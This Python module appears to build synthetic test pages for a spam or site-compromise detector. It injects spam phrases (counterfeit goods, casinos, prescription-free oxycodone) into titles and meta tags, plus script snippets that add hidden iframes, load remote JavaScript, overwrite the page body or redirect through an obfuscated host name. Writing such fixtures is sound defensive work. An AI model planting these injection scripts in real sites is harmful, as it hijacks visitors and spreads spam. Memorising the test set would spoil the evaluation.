"""Two families written last. No detector, list or threshold was changed after their first run."""

# ruff: noqa: E501 (markup reads better on one line)
import random
from collections.abc import Callable

from clean_pages import Clean

JAPANESE = "腕時計 激安 通販|ルイヴィトン 財布 コピー|送料無料 スニーカー 新作|ブランドバッグ 偽物 販売|ゴルフクラブ 最安値|カジノ ボーナス"
KOREAN = "온라인카지노 추천|스포츠토토 배당|바카라 사이트|먹튀검증 업체|슬롯 무료"
ENGLISH = "buy oxycodone online no prescription|live casino real money|hot singles dating near you|cheap louis vuitton outlet|write my essay service|crypto casino bonus"
HOSTS = "www.brand-shop24.com kr-toto.info www.mypills-rx.net dhgd88.cc www.lvcopy.shop".split()


def foreign_words(source: random.Random, clean: Clean) -> str:
    """Put advertising in other languages into title, text or description."""
    lines = source.choice([JAPANESE, KOREAN, ENGLISH]).split("|")
    words = " | ".join(source.sample(lines, 3))
    way = source.randrange(3)
    if way == 0:
        return clean.html(title=words)
    if way == 1:
        return clean.html(last=f"<p>{words}</p>")
    return clean.html(head=f'<meta name="description" content="{words}">')


def built_by_script(source: random.Random, clean: Clean) -> str:
    """Let a script build the links, frames or forms of strangers from parts."""
    host = source.choice(HOSTS)
    code = source.choice(
        [
            f"var a=document.createElement('a');a.href='http://{host}/';a.innerText='x';document.body.appendChild(a);",
            f"var f=document.createElement('iframe');f.style.display='none';f.src='//{host}/t';document.body.appendChild(f);",
            f"$('body').append('<a href=\"http://{host}\">more</a>');",
            f"$.getScript('https://{host}/x.js');",
            f"fetch('https://{host}/p').then(function(r){{return r.text()}}).then(function(t){{document.body.innerHTML=t}});",
            f"var s='{host[::-1]}'.split('').reverse().join('');location.href='http://'+s;",
        ]
    )
    return clean.html(last=f"<script>{code}</script>")


UNTUNED: dict[str, Callable[[random.Random, Clean], str]] = {
    "foreign words (untuned)": foreign_words,
    "built by script (untuned)": built_by_script,
}
